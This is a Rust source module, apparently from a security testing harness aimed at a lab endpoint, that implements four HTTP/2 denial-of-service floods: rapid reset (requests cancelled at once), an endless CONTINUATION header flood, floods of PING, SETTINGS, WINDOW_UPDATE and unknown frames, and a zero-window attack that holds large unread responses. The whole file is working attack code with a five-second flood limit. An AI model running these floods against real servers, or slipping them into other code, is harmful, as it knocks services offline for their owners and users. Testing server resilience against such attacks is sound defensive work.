//! Attacks with few connections that send a lot.

use std::time::Duration;

use anyhow::Result;
use machinery::clock::Clock;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::Field;
use super::frames::{
    self, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
};

/// Limit for the duration of a flood.
const FLOOD: Duration = Duration::from_secs(5);

/// Sends until all parts are sent, the server closes the connection, or the time is over; returns how many
/// parts were sent.
async fn pour(stream: &mut TlsStream<TcpStream>, parts: impl Iterator<Item = Vec<u8>>) -> usize {
    let mut sent = 0;
    let all = async {
        for part in parts {
            if stream.write_all(&part).await.is_err() {
                break;
            }
            sent += 1;
        }
    };
    let _over = tokio::time::timeout(FLOOD, all).await;
    sent
}

/// Sends requests and cancels them at once (rapid reset).
pub async fn rapid_reset(field: &Field<'_>) -> Result<String> {
    let tls = field.lab.endpoint.tls(None, "h2")?;
    let token = field.lab.token("plain").await?;
    let mut sent = 0;
    for _ in 0..4 {
        let mut stream = frames::connect(&field.lab.endpoint, tls.clone(), field.from, &[]).await?;
        let head = frames::head(false, "/openapi/v2", Some(&token));
        let parts = (0..25_000).map(|at| {
            let id = at * 2 + 1;
            let asked = frame(HEADERS, END_HEADERS | END_STREAM, id, &head);
            [asked, frame(RST_STREAM, 0, id, &8u32.to_be_bytes())].concat()
        });
        sent += pour(&mut stream, parts).await;
    }
    Ok(format!("{sent} requests"))
}

/// Sends headers without an end.
pub async fn continuation(field: &Field<'_>) -> Result<String> {
    let tls = field.lab.endpoint.tls(None, "h2")?;
    let mut sent = 0;
    for _ in 0..4 {
        let mut stream = frames::connect(&field.lab.endpoint, tls.clone(), field.from, &[]).await?;
        let first = frame(HEADERS, 0, 1, &frames::head(false, "/version", None));
        // A header with a new name each time.
        let mut more = vec![0x40, 0x01, b'x', 0x7f, 0x81, 0x06];
        more.extend([b'y'; 896]);
        let next = frame(CONTINUATION, 0, 1, &more);
        sent += pour(&mut stream, std::iter::once(first).chain(std::iter::repeat_n(next, 50_000))).await;
    }
    Ok(format!("{sent} frames"))
}

/// Sends pings, settings and window updates without reading the replies.
pub async fn pings(field: &Field<'_>) -> Result<String> {
    let tls = field.lab.endpoint.tls(None, "h2")?;
    let mut sent = 0;
    for part in [
        frame(PING, 0, 0, &[0; 8]),
        frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
        frame(WINDOW_UPDATE, 0, 0, &0u32.to_be_bytes()),
        frame(0xbe, 0xff, 0, &[0; 64]),
    ] {
        let mut stream = frames::connect(&field.lab.endpoint, tls.clone(), field.from, &[]).await?;
        sent += pour(&mut stream, std::iter::repeat_n(part, 200_000)).await;
    }
    Ok(format!("{sent} frames"))
}

/// Requests large responses on every stream without reading them.
pub async fn unread_answers(field: &Field<'_>) -> Result<String> {
    let tls = field.lab.endpoint.tls(None, "h2")?;
    let token = field.lab.token("plain").await?;
    let mut held = Vec::new();
    let mut sent = 0;
    for _ in 0..10 {
        // SETTINGS_INITIAL_WINDOW_SIZE is 0.
        let mut stream = frames::connect(&field.lab.endpoint, tls.clone(), field.from, &[(4, 0)]).await?;
        let head = frames::head(false, "/openapi/v2", Some(&token));
        let parts = (0..250).map(|at| frame(HEADERS, END_HEADERS | END_STREAM, at * 2 + 1, &head));
        sent += pour(&mut stream, parts).await;
        stream.flush().await?;
        held.push(stream);
    }
    Clock::system().sleep(FLOOD).await;
    Ok(format!("{sent} requests"))
}
